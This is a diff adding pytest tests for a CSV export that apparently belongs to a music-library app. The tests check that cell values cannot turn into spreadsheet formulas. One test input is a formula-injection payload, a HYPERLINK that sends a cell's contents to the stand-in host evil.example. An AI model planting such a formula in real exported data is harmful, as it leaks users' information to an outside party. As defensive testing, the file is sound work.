@@ -200,3 +200,35 @@ def test_oversized_parameters_never_give_a_500(few, params):
     assert response.status_code == HTTPStatus.OK
     assert response.context["query"].page == "1" or "page" not in params
     assert len(response.context["query"].q) <= 200
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '\x00=HYPERLINK("https://evil.example/?"&C2,"click me")',
+            '\'=HYPERLINK("https://evil.example/?"&C2,"click me")',
+        ),
+        ("\x00=1+1", "'=1+1"),
+        ("  +1", "'  +1"),
+        ("\t-2", "'-2"),
+        ("\r\n@SUM(A1)", "'@SUM(A1)"),
+        (";=3+3;", ";=3+3;"),  # quoted, so ';' never separates; '=' is not at the start
+        ("Beyoncé: Halo", "Beyoncé: Halo"),
+        ("a\x07b", "ab"),
+    ],
+)
+def test_no_csv_cell_can_become_a_formula(value, cell):
+    from library.export import _cell
+
+    assert _cell(value) == cell
+
+
+def test_every_csv_field_is_quoted(client, emulator):
+    emulator.add_track(emulator.users[FEW].id, name="Plain", artists=(";=3+3;",))
+    sign_in(client, user_index=FEW)
+
+    lines = client.get(reverse("library:export_csv")).getvalue().decode().splitlines()
+
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)
+    assert '";=3+3;"' in lines[1]  # the separator-like text stays inside its quoted field
